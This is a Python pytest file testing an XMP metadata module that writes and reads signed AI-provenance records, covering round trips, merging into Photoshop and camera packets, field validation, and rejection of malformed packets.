"""Tests for provenance._core.xmp: round trips, merging into real-looking packets, hostile input."""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import re
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from defusedxml.ElementTree import fromstring as defused_fromstring
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provenance._core.xmp import (
    MAX_PACKET_BYTES,
    NS_IPTC_EXT,
    NS_PROVENANCE,
    NS_ST_REF,
    NS_XMP_MM,
    XmpProvenance,
    _write,
    build_packet,
    parse_packet,
    read_properties,
)
from provenance.errors import ProvenanceError, XmpError

RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
X = "adobe:ns:meta/"
DC = "http://purl.org/dc/elements/1.1/"
XMP = "http://ns.adobe.com/xap/1.0/"
PHOTOSHOP = "http://ns.adobe.com/photoshop/1.0/"
ST_EVT = "http://ns.adobe.com/xap/1.0/sType/ResourceEvent#"
TIFF = "http://ns.adobe.com/tiff/1.0/"
EXIF = "http://ns.adobe.com/exif/1.0/"
ACME = "http://ns.acme.example/dam/2.0/"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
DST = "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia"


def q(ns: str, local: str) -> str:
    return f"{{{ns}}}{local}"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def make_prov(**overrides: Any) -> XmpProvenance:
    values: dict[str, Any] = {
        "digital_source_type": DST,
        "essence_sha256": "0123456789abcdef" * 4,
        "statement": '{"generator":"acme-gen","record_version":1,"seed":42}',
        "signature": b64(bytes(range(70))),
        "signature_algorithm": "ES256",
        "certificate_chain": (b64(b"\x30\x82leaf" * 90), b64(b"\x30\x82ca" * 100)),
        "ai_system": "acme-gen SDXL",
        "ai_system_version": "2.1.0",
        "ai_prompt": 'white sneaker on a "clean" background <studio> & soft light',
        "document_id": "xmp.did:5f0e9b52-3c1a-4d6e-9f41-2b8c7a1d0e11",
        "instance_id": "xmp.iid:7a3c2e10-8b4f-4c55-a1d2-9e6f0b3c4d22",
        "derived_from_document_id": "xmp.did:0d1e2f30-4a5b-4c6d-8e7f-90a1b2c3d4e5",
        "derived_from_instance_id": "xmp.iid:1f2e3d4c-5b6a-4798-8a7b-6c5d4e3f2a10",
        "asset_id": "SKU-4711-front",
        "parent_sha256": "ab" * 32,
        "parent_essence_sha256": "cd" * 32,
    }
    values.update(overrides)
    return XmpProvenance(**values)


MINIMAL = {
    "ai_system": None,
    "ai_system_version": None,
    "ai_prompt": None,
    "document_id": None,
    "instance_id": None,
    "derived_from_document_id": None,
    "derived_from_instance_id": None,
    "asset_id": None,
    "parent_sha256": None,
    "parent_essence_sha256": None,
}

STALE_SIGNATURE = b64(b"stale-signature-from-2023" * 3)

# What Photoshop writes after a few saves, plus a stale provn block (attribute and
# element forms) and stale IPTC/xmpMM values from an earlier signing.
PHOTOSHOP_PACKET = f"""<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"
 x:xmptk="Adobe XMP Core 9.1-c001 79.675d0f7, 2023/06/11-19:21:16">
   <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
      <rdf:Description rdf:about=""
            xmlns:xmp="http://ns.adobe.com/xap/1.0/"
            xmlns:dc="http://purl.org/dc/elements/1.1/"
            xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"
            xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/"
            xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#"
            xmlns:stRef="http://ns.adobe.com/xap/1.0/sType/ResourceRef#"
            xmlns:Iptc4xmpExt="http://iptc.org/std/Iptc4xmpExt/2008-02-29/"
            xmp:CreatorTool="Adobe Photoshop 25.0 (Macintosh)"
            xmp:CreateDate="2024-03-01T10:12:33+01:00"
            xmp:ModifyDate="2024-03-02T08:00:01+01:00"
            photoshop:DateCreated="2024-03-01T10:12:33+01:00"
            photoshop:ColorMode="3"
            xmpMM:DocumentID="adobe:docid:photoshop:3f1c9a40-aaaa-bbbb-cccc-123456789abc"
            xmpMM:InstanceID="xmp.iid:old-instance"
            xmpMM:OriginalDocumentID="xmp.did:original-0001">
         <dc:format>image/jpeg</dc:format>
         <dc:title>
            <rdf:Alt>
               <rdf:li xml:lang="x-default">Sneaker &amp; laces — front</rdf:li>
               <rdf:li xml:lang="de-DE">Turnschuh vorne</rdf:li>
            </rdf:Alt>
         </dc:title>
         <dc:creator>
            <rdf:Seq>
               <rdf:li>Jane Studio</rdf:li>
               <rdf:li>ACME Retouch</rdf:li>
            </rdf:Seq>
         </dc:creator>
         <dc:subject>
            <rdf:Bag>
               <rdf:li>shoes</rdf:li>
               <rdf:li>packshot</rdf:li>
            </rdf:Bag>
         </dc:subject>
         <Iptc4xmpExt:DigitalSourceType>http://cv.iptc.org/newscodes/digitalsourcetype/digitalCapture</Iptc4xmpExt:DigitalSourceType>
         <xmpMM:History>
            <rdf:Seq>
               <rdf:li rdf:parseType="Resource">
                  <stEvt:action>created</stEvt:action>
                  <stEvt:instanceID>xmp.iid:hist-1</stEvt:instanceID>
                  <stEvt:when>2024-03-01T10:12:33+01:00</stEvt:when>
                  <stEvt:softwareAgent>Adobe Photoshop 25.0 (Macintosh)</stEvt:softwareAgent>
               </rdf:li>
               <rdf:li rdf:parseType="Resource">
                  <stEvt:action>saved</stEvt:action>
                  <stEvt:instanceID>xmp.iid:hist-2</stEvt:instanceID>
                  <stEvt:when>2024-03-02T08:00:01+01:00</stEvt:when>
                  <stEvt:changed>/</stEvt:changed>
               </rdf:li>
            </rdf:Seq>
         </xmpMM:History>
         <xmpMM:DerivedFrom rdf:parseType="Resource">
            <stRef:instanceID>xmp.iid:old-parent</stRef:instanceID>
            <stRef:documentID>xmp.did:old-parent</stRef:documentID>
            <stRef:originalDocumentID>xmp.did:original-0001</stRef:originalDocumentID>
         </xmpMM:DerivedFrom>
      </rdf:Description>
      <rdf:Description rdf:about=""
            xmlns:provn="https://schemas.provenance.dev/xmp/1.0/"
            provn:SignatureAlgorithm="ES384"
            provn:EssenceSHA256="{"9" * 64}">
         <provn:Statement>{{"stale":true}}</provn:Statement>
         <provn:Signature>{STALE_SIGNATURE}</provn:Signature>
         <provn:CertificateChain><rdf:Seq><rdf:li>c3RhbGU=</rdf:li></rdf:Seq></provn:CertificateChain>
         <provn:FutureField>kept by nobody</provn:FutureField>
      </rdf:Description>
      <rdf:Description rdf:about=""
            xmlns:acme="http://ns.acme.example/dam/2.0/">
         <acme:Asset rdf:parseType="Resource">
            <acme:Sku>4711</acme:Sku>
            <acme:Channel>
               <rdf:Bag><rdf:li>web</rdf:li><rdf:li>print</rdf:li></rdf:Bag>
            </acme:Channel>
         </acme:Asset>
      </rdf:Description>
   </rdf:RDF>
</x:xmpmeta>
{" " * 100}
{" " * 100}
<?xpacket end="w"?>""".encode()

# A camera/ExifTool style packet: one description, everything in attribute form,
# single-quoted, plus a structure written as property attributes on an element.
CAMERA_PACKET = b"""<?xpacket begin='\xef\xbb\xbf' id='W5M0MpCehiHzreSzNTczkc9d'?>
<x:xmpmeta xmlns:x='adobe:ns:meta/' x:xmptk='Image::ExifTool 12.57'>
<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>
 <rdf:Description rdf:about=''
  xmlns:tiff='http://ns.adobe.com/tiff/1.0/'
  xmlns:exif='http://ns.adobe.com/exif/1.0/'
  xmlns:aux='http://ns.adobe.com/exif/1.0/aux/'
  xmlns:xmpMM='http://ns.adobe.com/xap/1.0/mm/'
  xmlns:stRef='http://ns.adobe.com/xap/1.0/sType/ResourceRef#'
  tiff:Make='Canon'
  tiff:Model='Canon EOS R5'
  tiff:Orientation='1'
  exif:ExposureTime='1/125'
  exif:FNumber='8/1'
  aux:LensModel='RF24-105mm F4 L IS USM'
  xmpMM:DocumentID='xmp.did:camera-doc'>
  <exif:ISOSpeedRatings>
   <rdf:Seq>
    <rdf:li>100</rdf:li>
   </rdf:Seq>
  </exif:ISOSpeedRatings>
  <xmpMM:DerivedFrom stRef:documentID='xmp.did:camera-parent'/>
 </rdf:Description>
</rdf:RDF>
</x:xmpmeta>
<?xpacket end='w'?>"""

# No xpacket wrapper, no x:xmpmeta, the old rdf:about form, the old "xapMM" prefix
# for the xmpMM namespace, and a foreign namespace that took the prefix "provn".
BARE_RDF_PACKET = b"""
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about="uuid:faf5bdd5-ba3d-11da-ad31-d33d75182f1b"
      xmlns:xapMM="http://ns.adobe.com/xap/1.0/mm/"
      xmlns:provn="http://example.com/not-ours/provn#">
    <xapMM:DocumentID>uuid:old-doc</xapMM:DocumentID>
    <xapMM:Manager>ACME DAM</xapMM:Manager>
    <provn:Note>a different provn namespace</provn:Note>
  </rdf:Description>
</rdf:RDF>
"""


def tree(packet: bytes) -> ET.Element:
    """Parse a packet the way a test should: with defusedxml, after the xpacket PI."""
    root: ET.Element = defused_fromstring(packet)
    return root


def descriptions(root: ET.Element) -> list[ET.Element]:
    return list(root.iter(q(RDF, "Description")))


def top_level(root: ET.Element, tag: str) -> list[str | ET.Element]:
    """All top-level values of a property, attribute or element form."""
    rdf = next(root.iter(q(RDF, "RDF")))
    found: list[str | ET.Element] = []
    for desc in rdf:
        if tag in desc.attrib:
            found.append(desc.attrib[tag])
        found.extend(desc.findall(tag))
    return found


# ----------------------------------------------------------------- round trips

_XML_CHARS = st.characters(
    exclude_categories=["Cs"],
    exclude_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)] + ["\ufffe", "\uffff"],
)
_text = st.text(_XML_CHARS, min_size=1, max_size=80)
_hex = st.text("0123456789abcdef", min_size=64, max_size=64)
_b64 = st.binary(min_size=1, max_size=64).map(b64)


@st.composite
def provenances(draw: st.DrawFn) -> XmpProvenance:
    def optional(strategy: st.SearchStrategy[str]) -> str | None:
        return draw(st.none() | strategy)

    return XmpProvenance(
        digital_source_type=draw(_text),
        essence_sha256=draw(_hex),
        statement=draw(st.text(_XML_CHARS, min_size=1, max_size=400)),
        signature=draw(_b64),
        signature_algorithm=draw(st.sampled_from(["ES256", "ES384", "Ed25519", "PS256"])),
        certificate_chain=tuple(draw(st.lists(_b64, min_size=1, max_size=4))),
        ai_system=optional(_text),
        ai_system_version=optional(_text),
        ai_prompt=optional(_text),
        document_id=optional(_text),
        instance_id=optional(_text),
        derived_from_document_id=optional(_text),
        derived_from_instance_id=optional(_text),
        asset_id=optional(_text),
        parent_sha256=optional(_hex),
        parent_essence_sha256=optional(_hex),
    )


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prov=provenances())
def test_round_trip_fresh_packet(prov: XmpProvenance) -> None:
    assert parse_packet(build_packet(prov)) == prov


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prov=provenances())
def test_a_fresh_packet_is_the_serialized_tree_byte_for_byte(prov: XmpProvenance) -> None:
    # A fresh packet is written from a template per shape (issue 20); the tree
    # serializer, which merges into existing packets, is the reference.
    assert _write._fresh_packet(prov) == _write._merged_text(prov, None)


@pytest.mark.parametrize(
    "value", ["\ue000", "\ue0000\ue000", "&lt;\ue000>\r", "0", "\ue000\ue000\ue000"]
)
def test_a_fresh_packet_with_the_template_marker_in_its_values(value: str) -> None:
    prov = make_prov(ai_prompt=value, statement=value, asset_id=value, parent_sha256=None)
    assert build_packet(prov) == _write._merged_text(prov, None).encode("utf-8")
    assert parse_packet(build_packet(prov)) == prov


@settings(max_examples=100, deadline=None)
@given(
    prov=provenances(), existing=st.sampled_from([PHOTOSHOP_PACKET, CAMERA_PACKET, BARE_RDF_PACKET])
)
def test_round_trip_merged_packet(prov: XmpProvenance, existing: bytes) -> None:
    merged = build_packet(prov, existing=existing)
    assert parse_packet(merged) == prov
    # Merging again into our own output replaces our block instead of adding one.
    again = build_packet(prov, existing=merged)
    assert parse_packet(again) == prov
    assert len(again) == len(merged)


@pytest.mark.parametrize(
    "value",
    [
        "line one\nline two",
        "carriage\r\nreturn\rnewline",
        "\ttabbed\t",
        "  leading and trailing spaces  ",
        "<![CDATA[not cdata]]> ]]> &amp; &#38; <!-- no comment -->",
        "quotes \" and ' apostrophes",
        "unicode: é ß 漢字 \U0001f45f \u200b\u00a0",
        "x" * 20_000,
    ],
)
def test_round_trip_awkward_text(value: str) -> None:
    prov = make_prov(ai_prompt=value, statement=value, asset_id=value)
    assert parse_packet(build_packet(prov)) == prov


def test_round_trip_every_optional_field_absent() -> None:
    prov = make_prov(**MINIMAL)
    packet = build_packet(prov)
    assert parse_packet(packet) == prov
    assert b"DerivedFrom" not in packet
    assert b"AISystemUsed" not in packet


@pytest.mark.parametrize("field", list(MINIMAL))
def test_round_trip_one_optional_field(field: str) -> None:
    prov = make_prov(**{**MINIMAL, field: getattr(make_prov(), field)})
    assert parse_packet(build_packet(prov)) == prov


def test_packet_shape_and_size() -> None:
    statement = ('{"record_version":1,"generator":"acme-gen","model":"sdxl",' + '"x":1,' * 60)[:300]
    prov = make_prov(
        statement=statement,
        signature=b64(b"\x30" * 71),
        certificate_chain=(b64(b"\x30" * 520), b64(b"\x30" * 480)),
        ai_prompt=None,
        derived_from_document_id=None,
        derived_from_instance_id=None,
        parent_sha256=None,
        parent_essence_sha256=None,
    )
    packet = build_packet(prov)
    assert packet.startswith('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'.encode())
    assert packet.endswith(b'<?xpacket end="w"?>')
    root = tree(packet)
    assert root.tag == q(X, "xmpmeta")
    (desc,) = descriptions(root)
    assert desc.get(q(RDF, "about")) == ""
    # Simple properties are elements, never attributes.
    assert [k for k in desc.attrib if not k.startswith(f"{{{RDF}}}")] == []
    chain = desc.find(q(NS_PROVENANCE, "CertificateChain"))
    assert chain is not None
    assert [li.text for li in chain.iterfind(f"{q(RDF, 'Seq')}/{q(RDF, 'li')}")] == list(
        prov.certificate_chain
    )
    # No padding: the payload is what takes the room (about 1.7 KB of base64 here).
    assert len(packet) < 3200
    assert b"  \n" not in packet


def test_build_escapes_markup() -> None:
    prov = make_prov(ai_prompt="</Iptc4xmpExt:AIPromptInformation><provn:Statement>evil")
    packet = build_packet(prov)
    assert b"<provn:Statement>evil" not in packet
    assert parse_packet(packet) == prov


# ------------------------------------------------------------------ validation

FIELDS = [f.name for f in dataclasses.fields(XmpProvenance) if f.name != "certificate_chain"]


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("char", ["\x00", "\x01", "\x08", "\x0b", "\x1f", "\ufffe", "\ud800"])
def test_build_refuses_characters_xml_cannot_hold(field: str, char: str) -> None:
    valid = getattr(make_prov(), field)
    with pytest.raises(XmpError, match=rf"^{field} contains U\+"):
        build_packet(make_prov(**{field: valid[:10] + char + valid[10:]}))


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"statement": ""}, "statement is empty"),
        ({"ai_prompt": ""}, "ai_prompt is empty"),
        ({"essence_sha256": "AB" * 32}, "essence_sha256 is not 64 lowercase hex"),
        ({"essence_sha256": "ab" * 31}, "essence_sha256 is not 64 lowercase hex"),
        ({"parent_sha256": "xy" * 32}, "parent_sha256 is not 64 lowercase hex"),
        ({"signature": "not base64!"}, "signature is not base64"),
        ({"signature": "QUJD"[:3]}, "signature is not base64"),
        ({"signature_algorithm": "ES 256"}, "signature_algorithm"),
        ({"certificate_chain": ()}, "certificate_chain must be a non-empty tuple"),
        ({"certificate_chain": ["QUJD"]}, "certificate_chain must be a non-empty tuple"),
        ({"certificate_chain": ("QUJD", "@@@@")}, r"certificate_chain\[1\] is not base64"),
        ({"certificate_chain": ("",)}, r"certificate_chain\[0\] is empty"),
        ({"asset_id": 17}, "asset_id must be a string"),
    ],
)
def test_build_refuses_invalid_fields(overrides: dict[str, Any], message: str) -> None:
    with pytest.raises(XmpError, match=message):
        build_packet(make_prov(**overrides))


def test_build_refuses_a_packet_over_the_limit() -> None:
    filler = "a" * (MAX_PACKET_BYTES - 1000)
    existing = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:source>{filler}</dc:source></rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode()
    assert parse_packet(existing) is None
    with pytest.raises(XmpError, match="over"):
        build_packet(make_prov(), existing=existing)


# ----------------------------------------------------------------------- merge


def test_merge_keeps_photoshop_metadata_and_replaces_ours() -> None:
    prov = make_prov()
    merged = build_packet(prov, existing=PHOTOSHOP_PACKET)
    assert parse_packet(merged) == prov
    root = tree(merged)

    # The x:xmpmeta attributes survive.
    assert root.get(q(X, "xmptk"), "").startswith("Adobe XMP Core 9.1")
    # Attribute-form properties stay attributes with their values.
    (creator_tool,) = top_level(root, q(XMP, "CreatorTool"))
    assert creator_tool == "Adobe Photoshop 25.0 (Macintosh)"
    assert top_level(root, q(PHOTOSHOP, "DateCreated")) == ["2024-03-01T10:12:33+01:00"]
    assert top_level(root, q(NS_XMP_MM, "OriginalDocumentID")) == ["xmp.did:original-0001"]
    # rdf:Alt with languages, rdf:Seq, rdf:Bag.
    (title,) = top_level(root, q(DC, "title"))
    assert isinstance(title, ET.Element)
    alt = [(li.get(XML_LANG), li.text) for li in title.iter(q(RDF, "li"))]
    assert alt == [("x-default", "Sneaker & laces — front"), ("de-DE", "Turnschuh vorne")]
    (creator,) = top_level(root, q(DC, "creator"))
    assert isinstance(creator, ET.Element)
    assert [li.text for li in creator.iter(q(RDF, "li"))] == ["Jane Studio", "ACME Retouch"]
    (subject,) = top_level(root, q(DC, "subject"))
    assert isinstance(subject, ET.Element)
    assert subject.find(q(RDF, "Bag")) is not None
    # xmpMM:History, an rdf:Seq of stEvt structures, is kept whole.
    (history,) = top_level(root, q(NS_XMP_MM, "History"))
    assert isinstance(history, ET.Element)
    events = history.findall(f"{q(RDF, 'Seq')}/{q(RDF, 'li')}")
    assert [e.get(q(RDF, "parseType")) for e in events] == ["Resource", "Resource"]
    assert [e.findtext(q(ST_EVT, "action")) for e in events] == ["created", "saved"]
    assert events[1].findtext(q(ST_EVT, "changed")) == "/"
    # A nested structure in a foreign namespace, with its prefix.
    (asset,) = top_level(root, q(ACME, "Asset"))
    assert isinstance(asset, ET.Element)
    assert asset.findtext(q(ACME, "Sku")) == "4711"
    assert [li.text for li in asset.iter(q(RDF, "li"))] == ["web", "print"]
    for prefix in (b"xmp", b"dc", b"photoshop", b"stEvt", b"acme", b"xmpMM", b"stRef"):
        assert b" xmlns:" + prefix + b'="' in merged

    # Ours are replaced: one value each, the new one; the stale block is gone.
    for tag, value in [
        (q(NS_XMP_MM, "DocumentID"), prov.document_id),
        (q(NS_XMP_MM, "InstanceID"), prov.instance_id),
        (q(NS_IPTC_EXT, "DigitalSourceType"), prov.digital_source_type),
        (q(NS_PROVENANCE, "Signature"), prov.signature),
        (q(NS_PROVENANCE, "SignatureAlgorithm"), prov.signature_algorithm),
        (q(NS_PROVENANCE, "EssenceSHA256"), prov.essence_sha256),
    ]:
        values = [v if isinstance(v, str) else v.text for v in top_level(root, tag)]
        assert values == [value], tag
    (derived,) = top_level(root, q(NS_XMP_MM, "DerivedFrom"))
    assert isinstance(derived, ET.Element)
    assert derived.findtext(q(NS_ST_REF, "documentID")) == prov.derived_from_document_id
    assert derived.find(q(NS_ST_REF, "originalDocumentID")) is None
    assert STALE_SIGNATURE.encode() not in merged
    assert b"FutureField" not in merged
    assert b"adobe:docid:photoshop" not in merged
    assert b"digitalCapture" not in merged
    # The description that held only the stale block is gone, and the padding too.
    assert len(descriptions(root)) == 3
    assert b" " * 100 not in merged


def test_merge_removes_an_owned_property_even_when_we_leave_it_unset() -> None:
    prov = make_prov(document_id=None, derived_from_document_id=None, derived_from_instance_id=None)
    merged = build_packet(prov, existing=PHOTOSHOP_PACKET)
    parsed = parse_packet(merged)
    assert parsed == prov
    assert parsed is not None
    assert parsed.document_id is None
    assert b"DocumentID" not in merged.replace(b"OriginalDocumentID", b"")
    assert b"xmpMM:History" in merged


def test_merge_into_camera_packet_with_attribute_forms() -> None:
    prov = make_prov()
    merged = build_packet(prov, existing=CAMERA_PACKET)
    assert parse_packet(merged) == prov
    root = tree(merged)
    assert top_level(root, q(TIFF, "Model")) == ["Canon EOS R5"]
    assert top_level(root, q(EXIF, "ExposureTime")) == ["1/125"]
    (iso,) = top_level(root, q(EXIF, "ISOSpeedRatings"))
    assert isinstance(iso, ET.Element)
    assert [li.text for li in iso.iter(q(RDF, "li"))] == ["100"]
    assert b"camera-doc" not in merged
    assert b"camera-parent" not in merged
    assert b"xmlns:aux=" in merged
    assert root.get(q(X, "xmptk")) == "Image::ExifTool 12.57"


def test_merge_into_bare_rdf_keeps_prefixes_and_about() -> None:
    prov = make_prov()
    merged = build_packet(prov, existing=BARE_RDF_PACKET)
    assert parse_packet(merged) == prov
    assert merged.startswith(b"<?xpacket begin=")
    root = tree(merged)
    assert root.tag == q(X, "xmpmeta")
    # Every description keeps the packet's rdf:about, as XMP requires.
    abouts = {d.get(q(RDF, "about")) for d in descriptions(root)}
    assert abouts == {"uuid:faf5bdd5-ba3d-11da-ad31-d33d75182f1b"}
    # The old "xapMM" prefix is kept for the xmpMM namespace, ours included.
    assert b"<xapMM:Manager>ACME DAM</xapMM:Manager>" in merged
    assert f"<xapMM:DocumentID>{prov.document_id}<".encode() in merged
    assert b"uuid:old-doc" not in merged
    # The foreign namespace keeps "provn"; ours gets another prefix.
    assert b'xmlns:provn="http://example.com/not-ours/provn#"' in merged
    assert f'="{NS_PROVENANCE}"'.encode() in merged
    assert top_level(root, "{http://example.com/not-ours/provn#}Note") != []


@pytest.mark.parametrize(
    "existing",
    [
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>',
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'</x:xmpmeta><?xpacket end="w"?>',
        b"<html><body>not xmp at all</body></html>",
    ],
)
def test_merge_into_packet_without_rdf(existing: bytes) -> None:
    prov = make_prov()
    assert parse_packet(build_packet(prov, existing=existing)) == prov


@pytest.mark.parametrize("existing", [b"", b"<x:xmpmeta", b"\xff\xfe<\x00x\x00"])
def test_merge_refuses_a_broken_existing_packet(existing: bytes) -> None:
    with pytest.raises(XmpError):
        build_packet(make_prov(), existing=existing)


# ----------------------------------------------------------------------- parse


def test_parse_returns_none_when_not_ours() -> None:
    assert parse_packet(_rename(b"provn:Statement", b"provn:X")(PHOTOSHOP_PACKET)) is None
    assert parse_packet(CAMERA_PACKET) is None
    assert parse_packet(BARE_RDF_PACKET) is None
    assert parse_packet(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>') is None


def test_parse_reads_properties_spread_over_descriptions_and_forms() -> None:
    # The stale block of PHOTOSHOP_PACKET is a complete record spread over two
    # descriptions, in attribute and element forms: it reads like any other.
    prov = parse_packet(PHOTOSHOP_PACKET)
    assert prov is not None
    assert prov.statement == '{"stale":true}'
    assert prov.signature_algorithm == "ES384"
    assert prov.digital_source_type.endswith("digitalCapture")
    assert prov.derived_from_document_id == "xmp.did:old-parent"
    assert prov.document_id == "adobe:docid:photoshop:3f1c9a40-aaaa-bbbb-cccc-123456789abc"


def _attribute_form(prov: XmpProvenance) -> bytes:
    """Our properties the way ExifTool's Shorthand mode writes them."""
    return f"""<x:xmpmeta xmlns:x='adobe:ns:meta/'>
<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>
 <rdf:Description rdf:about=''
  xmlns:Iptc4xmpExt='{NS_IPTC_EXT}'
  xmlns:provn='{NS_PROVENANCE}'
  xmlns:stRef='{NS_ST_REF}'
  xmlns:xmpMM='{NS_XMP_MM}'
  Iptc4xmpExt:AISystemUsed='{prov.ai_system}'
  Iptc4xmpExt:AISystemVersionUsed='{prov.ai_system_version}'
  provn:AssetID='{prov.asset_id}'
  provn:EssenceSHA256='{prov.essence_sha256}'
  provn:ParentSHA256='{prov.parent_sha256}'
  provn:ParentEssenceSHA256='{prov.parent_essence_sha256}'
  provn:Signature='{prov.signature}'
  provn:SignatureAlgorithm='{prov.signature_algorithm}'
  provn:Statement='{prov.statement.replace('"', "&quot;")}'
  xmpMM:DocumentID='{prov.document_id}'
  xmpMM:InstanceID='{prov.instance_id}'>
  <Iptc4xmpExt:DigitalSourceType rdf:resource='{prov.digital_source_type}'/>
  <provn:CertificateChain>
   <rdf:Seq>
    {"".join(f"<rdf:li>{c}</rdf:li>" for c in prov.certificate_chain)}
   </rdf:Seq>
  </provn:CertificateChain>
  <xmpMM:DerivedFrom>
   <rdf:Description stRef:documentID='{prov.derived_from_document_id}'>
    <stRef:instanceID>{prov.derived_from_instance_id}</stRef:instanceID>
   </rdf:Description>
  </xmpMM:DerivedFrom>
 </rdf:Description>
</rdf:RDF>
</x:xmpmeta>""".encode()


def test_parse_accepts_attribute_form_and_other_rdf_shapes() -> None:
    prov = make_prov(ai_prompt=None)
    assert parse_packet(_attribute_form(prov)) == prov


def test_parse_accepts_struct_as_property_attributes() -> None:
    prov = make_prov(derived_from_document_id="xmp.did:parent", derived_from_instance_id=None)
    packet, count = re.subn(
        rb"<xmpMM:DerivedFrom .*</xmpMM:DerivedFrom>",
        b'<xmpMM:DerivedFrom stRef:documentID="xmp.did:parent"/>',
        build_packet(prov),
        flags=re.DOTALL,
    )
    assert count == 1
    assert parse_packet(packet) == prov


@pytest.mark.parametrize(
    "packet",
    [
        pytest.param(
            lambda p: p.removeprefix(p[: p.index(b"<x:xmpmeta")]), id="no-xpacket-wrapper"
        ),
        pytest.param(lambda p: b"\xef\xbb\xbf" + p, id="utf8-bom"),
        pytest.param(lambda p: b" \n\t\r\n" + p + b"\n\n   \n", id="surrounding-whitespace"),
        pytest.param(
            lambda p: b'<?xml version="1.0" encoding="UTF-8"?>' + p.split(b"?>\n", 1)[1],
            id="xml-declaration",
        ),
        pytest.param(lambda p: p.replace(b"\n", b"\r\n"), id="crlf"),
        pytest.param(
            lambda p: p.replace(
                b'<?xpacket end="w"?>', b"<!-- c -->" + b" " * 2048 + b'<?xpacket end="r"?>'
            ),
            id="padding-and-comment",
        ),
    ],
)
def test_parse_tolerates_packaging(packet: Any) -> None:
    prov = make_prov()
    assert parse_packet(packet(build_packet(prov))) == prov


def _rename(old: bytes, new: bytes) -> Any:
    def mutate(packet: bytes) -> bytes:
        assert b"<" + old in packet, old
        return packet.replace(b"<" + old, b"<" + new).replace(b"</" + old, b"</" + new)

    return mutate


def _swap(old: bytes, new: bytes) -> Any:
    def mutate(packet: bytes) -> bytes:
        assert old in packet, old
        return packet.replace(old, new, 1)

    return mutate


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (_rename(b"provn:Signature", b"provn:Sig"), "provn:Signature is missing"),
        (_rename(b"provn:EssenceSHA256", b"provn:Other"), "provn:EssenceSHA256 is missing"),
        (
            _rename(b"Iptc4xmpExt:DigitalSourceType", b"Iptc4xmpExt:Other"),
            "DigitalSourceType is missing",
        ),
        (_rename(b"provn:CertificateChain", b"provn:Chain"), "CertificateChain is missing"),
        (
            _swap(b"0123456789abcdef<", b"0123456789ABCDEF<"),
            "essence_sha256 is not 64 lowercase hex",
        ),
        (
            lambda p: p.replace(b"rdf:Seq>", b"rdf:Bag>"),
            "provn:CertificateChain is not an rdf:Seq",
        ),
        (
            lambda p: p.replace(b"<rdf:li>", b"<rdf:x>").replace(b"</rdf:li>", b"</rdf:x>"),
            "provn:CertificateChain is not an rdf:Seq",
        ),
        (
            lambda p: re.sub(
                rb"<provn:CertificateChain>.*</provn:CertificateChain>",
                b"<provn:CertificateChain>QUJD</provn:CertificateChain>",
                p,
                flags=re.DOTALL,
            ),
            "provn:CertificateChain is not an rdf:Seq",
        ),
        (_swap(b"</provn:CertificateChain>", b""), "is not well-formed"),
        (_swap(b"<rdf:Seq>\n    <rdf:li>", b"<rdf:Seq>\n    <rdf:li><rdf:Seq/>"), "not text"),
        (
            _swap(b"<provn:Statement>", b"<provn:Statement>\n<x:y xmlns:x='x:'/>"),
            "not a simple text value",
        ),
        (
            _swap(
                b"<provn:Statement>", b"<provn:Statement>again</provn:Statement><provn:Statement>"
            ),
            "provn:Statement has several values",
        ),
        (
            _swap(b'rdf:about=""', b'rdf:about="" provn:Signature="QUJD"'),
            "provn:Signature has several values",
        ),
        (
            _swap(
                b"</rdf:RDF>",
                b'<rdf:Description rdf:about="" xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/">'
                b"<xmpMM:InstanceID>b</xmpMM:InstanceID>"
                b"</rdf:Description></rdf:RDF>",
            ),
            "xmpMM:InstanceID has several values",
        ),
        (
            _swap(b'<xmpMM:DerivedFrom rdf:parseType="Resource">', b"<xmpMM:DerivedFrom>"),
            "DerivedFrom is not a structure",
        ),
        (_swap(b"<provn:Signature>", b"<provn:Signature>!"), "signature is not base64"),
        (_swap(b"</rdf:RDF>", b"<rdf:RDF/></rdf:RDF>"), "several rdf:RDF"),
        (
            _swap(b"<provn:Statement>", b"<provn:Statement rdf:parseType='Resource'>"),
            "not a simple",
        ),
        (_swap(b"<provn:AssetID>SKU-4711-front", b"<provn:AssetID>"), "asset_id is empty"),
    ],
)
def test_parse_refuses_malformed_provenance(mutate: Any, message: str) -> None:
    packet = mutate(build_packet(make_prov()))
    with pytest.raises(XmpError, match=message):
        parse_packet(packet)


# --------------------------------------------------------------- hostile input

